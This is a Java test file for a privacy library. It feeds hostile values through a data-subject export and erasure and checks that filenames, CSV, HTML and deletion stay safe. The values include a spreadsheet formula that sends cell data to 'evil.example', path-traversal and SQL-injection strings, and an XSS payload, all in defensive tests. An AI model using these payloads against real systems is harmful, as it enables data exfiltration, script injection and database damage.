/* SPDX-License-Identifier: Apache-2.0 */
package dev.privet.jpa;

import static org.assertj.core.api.Assertions.assertThat;

import dev.privet.Privet;
import dev.privet.annotation.AboutSubject;
import dev.privet.annotation.DataSubject;
import dev.privet.annotation.PersonalData;
import dev.privet.jpa.shop.Purposes;
import dev.privet.subject.SubjectRef;
import dev.privet.vocabulary.FreeText;
import dev.privet.vocabulary.PersonName;
import jakarta.persistence.Column;
import jakarta.persistence.ElementCollection;
import jakarta.persistence.Entity;
import jakarta.persistence.Id;
import jakarta.persistence.JoinColumn;
import jakarta.persistence.Lob;
import jakarta.persistence.ManyToOne;
import jakarta.persistence.Table;
import java.math.BigDecimal;
import java.nio.file.Path;
import java.sql.SQLException;
import java.time.LocalDate;
import java.time.LocalDateTime;
import java.util.HashSet;
import java.util.Map;
import java.util.Set;
import java.util.stream.Stream;
import org.jspecify.annotations.NullUnmarked;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.MethodSource;
import tools.jackson.databind.DeserializationFeature;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/** Data of somebody who means no good: it comes out as it is, does nothing on the way, and goes when it is to go. */
class HostileDataTest {

    private static final String ID = "../../etc/passwd'; drop table \"order by\"; --<b>\\%_";
    private static final String OTHER = "../../etc/passwd'; drop table \"order by\"; --<b>\\%";
    private static final String CANARY = "bobcanary";
    private static final SubjectRef SUBJECT = new SubjectRef("villain", ID);
    private static final String FORMULA = "=HYPERLINK(\"http://evil.example?\"&A1,\"click\")";
    private static final String SCRIPT = "</script></td><script>alert('x')</script><img src=x onerror=alert(1)>";
    private static final String CONTROL = "bell\u0007 escape\u001b[31m line\u2028 right\u202eleft\ufeff end";

    /** What PostgreSQL refuses to hold, H2 takes. */
    private static Stream<Arguments> texts() {
        return Stream.of(Stack.values())
                .flatMap(stack -> Stream.concat(
                                Stream.of(FORMULA, SCRIPT, "../../../etc/cron.d/x", CONTROL),
                                stack.isPostgreSql() ? Stream.empty() : Stream.of("nul\u0000 high\ud83d low\udc00 end"))
                        .map(text -> Arguments.of(stack, text)));
    }

    private static Unit unit(Stack stack) throws SQLException {
        Unit unit = Unit.on(stack, Villain.class, Deed.class);
        unit.jpa.createTables();
        return unit;
    }

    @ParameterizedTest
    @MethodSource("texts")
    void givenATextThatMeansHarm_whenExportedAndErased_thenNothingIsLostAndNothingHappens(
            Stack stack, String text, @TempDir Path folder) throws Exception {
        try (Unit unit = unit(stack)) {
            Villain villain = new Villain(ID, text);
            villain.select = new HashSet<>(Set.of(text));
            villain.story = text;
            unit.store(villain, new Villain(OTHER, CANARY), new Deed(text, villain));

            Map<String, String> parts = unit.export("villain", ID, folder);

            assertThat(folder.toFile().list()).hasSize(1).allMatch(name -> name.matches("[A-Za-z0-9._-]+"));
            assertThat(parts.keySet())
                    .allMatch(name -> name.matches("([A-Za-z0-9_-]+/)*[A-Za-z0-9_-]+(\\.[a-z]+)+"), "a plain name");
            assertThat(parts.values()).noneMatch(part -> part.contains(CANARY));
            JsonNode row = json(parts).get("Villain").get(0);
            assertThat(row.get("id").asString()).isEqualTo(ID);
            assertThat(row.get("order").asString()).isEqualTo(paired(text));
            assertThat(row.get("select").get(0).asString()).isEqualTo(paired(text));
            assertThat(json(parts).get("Deed").get(0).get("key").asString()).isEqualTo(paired(text));
            assertThat(parts.get("index.html")).doesNotContain("<script>alert", "<img src=x", "\u0007", "\u0000");
            String csv = parts.get("csv/Villain.csv");
            if (text.startsWith("=")) {
                assertThat(csv).contains("\"'=HYPERLINK(\"\"http").doesNotContain(",=", ",\"=");
            }

            Privet privet = Privet.builder()
                    .marked(unit.jpa.markedTypes())
                    .ledger(unit.jpa.ledger())
                    .erasure(set -> set.store(unit.jpa::erasure))
                    .build();
            privet.erasure().execute(privet.erasure().plan(SUBJECT));

            assertThat(ElementPartsTest.everything(unit))
                    .contains(CANARY)
                    .contains(OTHER)
                    .doesNotContain(ID)
                    .doesNotContain(text);
        }
    }

    /** A half of a character has no form in any encoding. */
    private static String paired(String text) {
        return text.replaceAll("[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]", "\ufffd");
    }

    private static JsonNode json(Map<String, String> parts) {
        return JsonMapper.builder()
                .enable(DeserializationFeature.USE_BIG_DECIMAL_FOR_FLOATS)
                .build()
                .readTree(parts.get("data.json"));
    }

    @ParameterizedTest
    @EnumSource
    void givenNumbersAndDatesAtTheirEnds_whenExportedAndErased_thenEachIsThere(Stack stack, @TempDir Path folder)
            throws Exception {
        try (Unit unit = unit(stack)) {
            Villain villain = new Villain(ID, "x");
            villain.ratio = Double.NaN;
            villain.share = Double.NEGATIVE_INFINITY;
            villain.wealth = new BigDecimal("1E+60").add(new BigDecimal("1E-30"));
            villain.born = LocalDate.of(-4712, 1, 1);
            villain.until = LocalDateTime.of(294275, 12, 31, 23, 59, 59);
            unit.store(villain);

            Map<String, String> parts = unit.export("villain", ID, folder);

            JsonNode row = json(parts).get("Villain").get(0);
            assertThat(row.get("ratio").asString()).isEqualTo("NaN");
            assertThat(row.get("share").asString()).isEqualTo("-Infinity");
            assertThat(row.get("wealth").decimalValue()).isEqualByComparingTo(villain.wealth);
            // What the application itself reads: both providers lose the era of a date.
            assertThat(row.get("born").asString()).isEqualTo(born(unit).toString());
            assertThat(row.get("until").asString()).isEqualTo("+294275-12-31T23:59:59");
            assertThat(parts.get("csv/Villain.csv")).contains("NaN", "294275");
        }
    }

    private static LocalDate born(Unit unit) {
        return unit.factory.callInTransaction(
                manager -> manager.createQuery("select v.born from Villain v", LocalDate.class)
                        .getSingleResult());
    }

    @Entity(name = "Villain")
    @Table(name = "\"order by\"")
    @DataSubject("villain")
    @NullUnmarked
    static class Villain {
        @Id
        @Column(name = "\"primary\"")
        String id;

        @Column(name = "\"group by 'x'\"", length = 500)
        @PersonalData(category = PersonName.class, purposes = Purposes.Support.class)
        String order;

        @ElementCollection
        @Column(name = "\"table\"", length = 500)
        @PersonalData(category = FreeText.class, purposes = Purposes.Support.class)
        Set<String> select;

        @Lob
        @PersonalData(category = FreeText.class, purposes = Purposes.Support.class)
        String story;

        Double ratio;

        Double share;

        @Column(precision = 100, scale = 30)
        BigDecimal wealth;

        @Column(name = "\"born on\"")
        LocalDate born;

        LocalDateTime until;

        Villain() {}

        Villain(String id, String order) {
            this.id = id;
            this.order = order;
        }
    }

    @Entity(name = "Deed")
    @Table(name = "\"select\"")
    @NullUnmarked
    static class Deed {
        @Id
        @Column(name = "\"from\"", length = 500)
        String key;

        @ManyToOne
        @JoinColumn(name = "\"where\"")
        @AboutSubject
        Villain by;

        @PersonalData(category = FreeText.class, purposes = Purposes.Support.class)
        String text;

        Deed() {}

        Deed(String key, Villain by) {
            this.key = key;
            this.by = by;
            this.text = key;
        }
    }
}
